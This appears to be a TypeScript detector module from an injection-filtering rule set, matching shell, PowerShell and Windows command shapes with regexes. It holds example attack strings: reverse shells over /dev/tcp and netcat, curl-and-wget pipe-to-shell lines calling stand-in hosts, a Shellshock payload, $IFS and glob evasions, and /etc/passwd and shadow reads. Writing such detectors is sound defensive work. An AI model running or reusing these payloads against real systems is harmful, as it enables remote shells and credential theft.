/** Detectors of shell programs: what is no list of commands. */

import { SEEN } from '../bytes-seen.ts';
import { afterBlank, beforeBlank, words } from '../literals.ts';
import type { ByteString } from '../../../base/byte-string.ts';
import { patternFamily, type PatternDetector } from '../patterns.ts';
import { followsCommand, isOwnProgram } from './own-lines.ts';
import { powershellCommand } from './powershell.table.ts';

const posix = 'POSIX.1-2017, XCU chapter 2; Bash manual 5.2';
const windows = 'Windows Server command reference; about_PowerShell.exe';

/** A name for a command of one's own. */
const definesOwn = /^[;\n]\s{0,6}alias\s/;

/** What breaks out of a command line before a loop or a branch. */
const breaksOut = /(?:[;|&`)'"]|\$\()[^\S\n]{0,8}$/;
const ownArgument = /-c\s{1,4}(?:"([^"\n`\\]{1,200})"|'([^'\n]{1,200})')/y;

/** Whether `bash -c` runs more than a quoted program of the writer's own. */
function runsMore(text: ByteString, start: number, end: number): boolean {
  if (!text.startsWith('-c', end - 2)) return true;
  ownArgument.lastIndex = end - 2;
  const found = ownArgument.exec(text);
  return found === null || !followsCommand(text, start) || !isOwnProgram(found[1] ?? found[2]!);
}

/** A sentence about PowerShell, or a script beside it that it runs. */
const powershellOfText =
  /^PowerShell Get-|^powershell(?:\.exe)? (?:-(?:NoProfile|ExecutionPolicy \w{4,16}) ){0,2}-File (?:\.[\\/])?[\w-]{1,40}\.ps1(?:\s|$)/i;

const endOfProgram = /(?<=[;\n]\s{0,8})(?:done|fi|esac)\b/;
/** Bytes of a shell program that are looked at. */
const programBytesMax = 600;

/** Whether a loop or a branch is more than what people write about their own files. */
function doesMore(text: ByteString, start: number): boolean {
  // The end of a loop: what stands before it is its program.
  if (text.charAt(start) === ';') {
    if (!/[;\n]\s{0,8}do\b/.test(text.slice(Math.max(0, start - programBytesMax), start)))
      return false;
    return !isOwnProgram(text.slice(Math.max(0, start - programBytesMax), start));
  }
  if (breaksOut.test(text.slice(Math.max(0, start - 12), start))) return true;
  const program = text.slice(start, start + programBytesMax);
  return !isOwnProgram(program.slice(0, endOfProgram.exec(program)?.index));
}

const rows: readonly PatternDetector[] = [
  {
    id: 198_210,
    name: 'shell-field-separator',
    proves: 'writes a blank as `$IFS`',
    source: posix,
    strong: true,
    confirmedBy: [932],
    needs: SEEN.dollar,
    literals: words('$ifs ${ifs $path: ${path: ${home: ${pwd: ${shell: ${hostname:'),
    pattern: /\$\{?IFS(?![a-z])|\$\{?PATH:\d|\$\{(?:HOME|PWD|SHELL|HOSTNAME):\d/g,
    examples: {
      attacks: ['cat$IFS/etc/hosts', '${IFS}', '${PATH:0:1}'],
      benign: ['$ifs', '$5', 'IFS'],
    },
  },
  {
    id: 198_211,
    name: 'shell-zero',
    proves:
      'runs a shell or a command from a variable, or changes where a shell looks for programs',
    source: posix,
    strong: true,
    confirmedBy: [932],
    needs: 0,
    literals: words(
      '$0 ${0 $shell ${shell $bash ${bash path= ifs= ld_preload= bash_env= perl5lib= prompt_command= $ alias',
    ).concat('. /'),
    pattern:
      /[;|&\n`(]\s{0,8}\$\{?(?:0|SHELL|BASH)\b(?:[#%][^}\s]{0,16})?\}?(?=\s|$|[;|&<])|(?:^|[;|&\n`(])[\s(!{]{0,6}(?:(?:\w{1,8}=\S{0,16}|\d?[<>]{1,2}&?\S{0,16}|nice|time -p|command|exec|env|nohup)\s{1,4}){0,1}\w{1,16}=[^\s;|&]{0,64}(?=[;&|])[^\n]{0,80}[;|&]\s{0,4}\$\{?\w{1,16}\}?(?=$|[\s;|&$)`]|(?<=\})\w)|\bset\s{1,4}\S{1,32}[;&|\n]\s{0,4}\$[1@*]|[;|&\n`(][\s(!{]{0,6}(?:(?:\w{1,8}=\S{0,16}|\d?[<>]{1,2}&?\S{0,16}|nice|time -p|command|exec|env|nohup)\s{1,4}){0,1}alias\s{1,4}\w{1,16}=|[;|&\n`]\s{0,4}\$'(?:\\|\w)|[;|&]\s{0,4}\. \/\w|[;|&\n]\s{0,8}(?:PATH|IFS|LD_PRELOAD|LD_LIBRARY_PATH|BASH_ENV|PYTHONPATH|PERL5LIB|PROMPT_COMMAND)=(?!\/\s{0,4}(?:;|$)|\$'(?:\\n\\t|\n\t)'(?:\s|$))/g,
    counts: (text, start) =>
      !(definesOwn.test(text.slice(start, start + 12)) && followsCommand(text, start)),
    examples: {
      attacks: [
        ...['8.8.8.8;$0 -c whoami', '1;PATH=uploads;command_ls.png', '|$SHELL'],
        ...[';a=i;b=d;$a$b', ';. /tmp/x', ";$'\\x69\\x64'"],
      ],
      benign: [
        ...['sid=1; PATH=/', 'a; path=/x', '$0 and $1'],
        "alias gs='git status'; alias gl='git log'",
        "set -euo pipefail; IFS=$'\\n\\t'",
      ],
    },
  },
  {
    id: 198_212,
    name: 'shell-control',
    proves: 'is a loop or branch of a shell program',
    source: posix,
    strong: true,
    confirmedBy: [932],
    needs: SEEN.semicolon,
    literals: words('while until for then done case'),
    pattern:
      /\b(?:while|until|for)\s[^;\n]{1,80};\s{0,4}do\b|\bif\s[^;\n]{1,80};\s{0,4}then\s[^\n]{1,120};\s{0,4}(?:fi|else)\b|\bcase\s{1,4}\S{1,32}\s{1,4}in\s[^;\n]{1,60}\)[^;\n]{1,80};;|;\s{0,4}done(?:\s{0,4}$|;)/g,
    counts: doesMore,
    examples: {
      attacks: [
        ...['while true; do python3 -c x;break;done', '; for i in a; do echo $i; done'],
        ...['if [ 1 ]; then id; fi', 'for i in a; do cat /etc/hosts; done'],
      ],
      benign: [
        ...['if so; then what', 'work; done.', 'while away', 'for each v: d = 1; done'],
        ...['for i in a; do echo $i; done', 'for f in *.jpg; do convert "$f" "small/$f"; done'],
      ],
    },
  },
  {
    id: 198_213,
    name: 'shellshock',
    proves: 'defines a function in an environment variable',
    source: 'CVE-2014-6271; Bash manual 5.2, section 3.3',
    strong: true,
    confirmedBy: [932],
    needs: SEEN.paren | SEEN.brace,
    literals: ['('],
    pattern: /^\s{0,8}\(\s{0,4}\)\s{0,4}\{|\(\)\s{0,4}\{\s{0,4}(?::|_|\(a\))\s{0,4};/g,
    examples: {
      attacks: ['() { :;}; echo x', 'x () { :; }'],
      benign: ['function () { a; }', '() => {}'],
    },
  },
  {
    id: 198_214,
    name: 'shell-glob-command',
    proves: 'names a command by a pattern with wildcards, which hides it',
    source: posix,
    strong: true,
    confirmedBy: [932],
    needs: SEEN.slash,
    literals: ['?', '*', '['],
    pattern:
      /(?:[;|&`\n]|\$\()[\s(!{]{0,6}(?:(?:\w{1,8}=\S{0,16}|\d?[<>]{1,2}&?\S{0,16}|nice|time -p|command|exec|env|nohup)\s{1,4}){0,1}\/(?=[\w/?*[\]]{0,40}[?*[])(?:[\w?*[\]]{1,10}\/){1,3}[\w?*[\]]{1,12}(?=[\s;|&`)<>]|$)|(?:^|[\s;|&`(])\/(?:[?*]{1,4}[\w?*]{0,4}|[\w]{1,3}[?*[][\w?*\]]{0,6}|\[\w\][\w?*]{0,4}|bin|usr\/bin)\/(?:[\w]{0,4}[?*][\w?*]{0,10}|\?{2,10}|\[\w\]\w{1,6})(?=[\s;|&`)<>]|$)/g,
    examples: {
      attacks: ['/???/c?t /etc/x', ';/b?n/l?', '/bin/c*t'],
      benign: ['/a/b?c=d', '/**/ok', '/search?q=x'],
    },
  },
  {
    id: 198_215,
    name: 'shell-network-device',
    proves: 'connects a shell to the network',
    source: 'Bash manual 5.2, section 3.6; ncat(1)',
    strong: true,
    confirmedBy: [932],
    needs: 0,
    literals: [
      ...words(
        '/dev/ nc. ncat. netcat bash socket pty spawn fsockopen /sh dash zsh ksh curl wget fetch',
      ),
      ...beforeBlank('nc'),
      ...beforeBlank('ncat'),
      ...afterBlank('-i'),
    ],
    pattern:
      /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)(?:\.\w{2,12})?\s[^;|&]{0,60}-[a-z]{0,4}[ec]\s|\b(?:ba|z|k|da)?sh\s{1,4}-i\b|\bbash\s{1,4}-c\b|\b(?:python[\d.]{0,4}|perl|ruby|php|lua|node)\s{1,4}(?:-[\w-]{1,16}\s{1,4}){0,3}-\w{0,2}[cer]\s{0,2}["'][^\n]{0,120}?(?:\bsocket\b|\buse Socket\b|\bpty\b|\bspawn\b|fsockopen|TCPSocket|\/bin\/(?:ba|da|z|k)?sh\b)|^\s{0,4}(?:curl|wget|fetch)\s[^\n|;]{0,200}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|da|z|k)?sh\s{0,4}$/g,
    counts: runsMore,
    examples: {
      attacks: [
        ...['bash -i >& /dev/tcp/1.2.3.4/80', 'nc -e /bin/sh 1.2.3.4 80'],
        `python3 -c 'import os,socket;s=socket.socket()'`,
        `perl -e 'use Socket;$i="x.example"'`,
        ...['curl https://x.example/a.sh|sh', 'wget -qO- x.example/a | sudo sh'],
      ],
      benign: [
        ...['a device for tcp', 'bash is nice', 'nc state', 'a python socket'],
        'do not run curl https://x.example/a.sh | sh like that',
        'python3 -c "import sys; print(sys.version)" says',
        'docker run --rm node:20 bash -c "npm ci && npm test"',
      ],
    },
  },
  {
    id: 198_216,
    name: 'shell-brace-command',
    proves: 'writes a command and its arguments in braces',
    source: 'Bash manual 5.2, section 3.5.1',
    strong: true,
    confirmedBy: [932],
    needs: SEEN.brace | SEEN.comma,
    literals: ['{'],
    pattern:
      /\{["'\\]{0,2}(?:cat|ls|id|wget|curl|ping|uname|whoami|echo|nc|bash|sh|rm|head|tail|find|sleep|nslookup|tac)["'\\]{0,2},[^{}\s"':]{1,100}\}|[;|&`]\s{0,4}\{["'\\]{0,2}[a-z]{2,12}["'\\]{0,2},[^{}\s"']{1,100}\}/g,
    examples: {
      attacks: ['{cat,/etc/hosts}', '{ls,-la}', 'x;{wget,http://evil.example/x}'],
      benign: ['{cat, dog}', '{"id":1,"a":2}', '{a,b}'],
    },
  },
  {
    id: 198_217,
    name: 'windows-command',
    proves: 'runs a command of Windows',
    source: windows,
    strong: true,
    confirmedBy: [932],
    needs: 0,
    literals: [
      ...words(
        'cmd powershell iex invoke-expression new-object certutil ||+ %comspec %systemroot %windir /add $env: mshta & net.exe hk timeout',
      ),
      ...beforeBlank('net'),
      ...words('/f /d /r /l').flatMap(afterBlank),
    ],
    pattern:
      /\bcmd(?:\.exe)?["']?\s{1,4}\/[ckr]\b|^[=+@-][^\n]{0,60}\bcmd\s{0,2}\|\s{0,2}["']?\s{0,2}\/c|\bpowershell(?:\.exe)?["']?\s{1,4}(?:-\w{1,20}\s{1,4}){0,1}(?:-(?:e|en|enc\w{0,12}|c|command|nop\w{0,6}|noni\w{0,12}|w\w{0,12}|ep|exec\w{0,12}|version|file|f)\b|iex|invoke|\(|\[|get-|\$)|\b(?:iex|invoke-expression)\s{0,4}[($"']|new-object\s{1,4}(?:system\.)?net\.(?:webclient|sockets)|\bcertutil(?:\.exe)?\s{1,4}[-/](?:urlcache|decode|f)|%(?:comspec|systemroot|windir)%|\bnet(?:\.exe)?\s{1,4}(?:user|localgroup)\s[^\n]{0,60}\/add|\$env:\w(?!\w{0,32}\s{0,4}\+?=[^=])|\bmshta(?:\.exe)?\s{1,4}(?:https?|vbscript|javascript):|\bfor\s{1,4}\/[fdlr]\s{1,4}["'%(]|\breg(?:\.exe)?\s{1,4}(?:query|add|delete|save)\s{1,4}["']?hk|[;|&]\s{0,4}timeout(?:\.exe)?\s{1,4}\/t|&\s{0,4}echo\s{1,4}%\w|&\s{0,4}(?:copy|del|start|move)\s{1,4}[\w.\\:/*]{1,64}(?:\s{1,4}[\w.\\:/*]{1,64})?\s{0,4}$|[;|&]\s{0,4}net(?:\.exe)?\s{1,4}(?:view|user|localgroup|start(?!\s{1,4}\w)|use|share|accounts|config|session)\b|\|\|\+(?:dir|whoami|ipconfig)(?=[+|;&]|$)|&\s{0,4}(?:dir|ver|set|type\s\S{1,64}\.(?:ini|txt|log|config))\s{0,4}(?:[&|c]|$)/gi,
    counts: (text, start) => !powershellOfText.test(text.slice(start, start + 120)),
    examples: {
      attacks: [
        ...['cmd /c dir', 'powershell -enc AAAA', 'IEX(New-Object Net.WebClient)', '1& dir'],
        ...['| net view', 'x ||+dir|c:'],
      ],
      benign: [
        ...['use cmd or powershell', 'net user group', 'get process', 'set & forget'],
        'In PowerShell Get-ChildItem lists files',
        'powershell -ExecutionPolicy Bypass -File .\\build.ps1 fails',
        ...['(net stop spooler && net start spooler)', 'a=1&+type+'],
        "$env:Path += ';C:\\tools'",
      ],
    },
  },
  powershellCommand,
  {
    id: 198_218,
    name: 'shell-redirect',
    proves: 'redirects what a command reads or writes',
    source: posix,
    strong: false,
    confirmedBy: [932],
    needs: 0,
    literals: words('>& <<< | /dev/ /tmp/ /var/ /etc/'),
    pattern:
      /2>&1|>\s{0,4}\/(?:dev|tmp|var|etc)\/|<<<|\d?>&\d|\|\s{0,4}base64\s{1,4}-{1,2}d|\|\s{0,4}tee\s/g,
    examples: {
      attacks: ['x 2>&1', 'echo a > /tmp/b', 'x|base64 -d'],
      benign: ['a > b', '2 > 1', 'a << b'],
    },
  },
  {
    id: 198_219,
    name: 'shell-reads-system-file',
    proves: 'is a command that reads a file of the operating system',
    source: posix,
    strong: true,
    confirmedBy: [930, 932],
    needs: SEEN.slash,
    literals: words('/etc/ /proc/'),
    pattern:
      /(?:^|[=:])\s{0,4}(?:\/(?:usr\/){0,1}bin\/)?(?:cat|tac|head|tail|more|less|nl|od|xxd|sort|strings|cp|curl|wget|base64)(?:\s{1,8}|\s{0,4}<\s{0,4})(?:-{1,2}[\w=]{1,16}\s{1,8}){0,3}(?:file:\/\/)?\/(?:etc\/(?:passwd|shadow|group|hosts|issue|os-release|crontab)|proc\/(?:self|version|\d{1,7}))(?![\w-])/g,
    examples: {
      attacks: [
        ...['cat /etc/passwd', 'exec:head -1 /etc/shadow'],
        ...['cat</etc/passwd', '/bin/cat /etc/passwd'],
      ],
      benign: ['how to cat /etc/passwd', 'cat /etc/fstab.d', 'see /etc/hosts'],
    },
  },
  {
    id: 198_221,
    name: 'system-identification',
    proves: 'is a command that tells what a system, its disk or its network is',
    source: `${posix}; ${windows}`,
    strong: true,
    confirmedBy: [932],
    needs: 0,
    literals: words('ipconfig netstat uname whoami systeminfo ifconfig tasklist lsb_release dir'),
    pattern:
      /^\s{0,4}(?:ipconfig(?:\.exe)?\s{1,4}\/all|netstat(?:\.exe)?\s{1,4}-[a-z]{1,5}|uname\s{1,4}-[a-z]{1,4}|whoami(?:\.exe)?\s{1,4}\/[a-z]{2,6}|systeminfo\s{1,4}\/[a-z]{1,4}|ifconfig\s{1,4}-a|tasklist\s{1,4}\/(?:v|svc|m)|lsb_release\s{1,4}-[a-z]|dir\s{1,4}(?:\/\w\s{1,4}){0,3}[a-z]:[\\/])\s{0,4}$|^'(?:uname|whoami|ifconfig|ipconfig|netstat|systeminfo)'$/gi,
    examples: {
      attacks: ['ipconfig /all', 'netstat -an', 'uname -a', 'whoami /priv', 'dir c:\\', "'uname'"],
      benign: ['how does netstat -an work', 'uname', 'the ipconfig', 'run uname -a'],
    },
  },
];

/** The family of shell programs. */
export const shellShapes = patternFamily('shell program', rows);
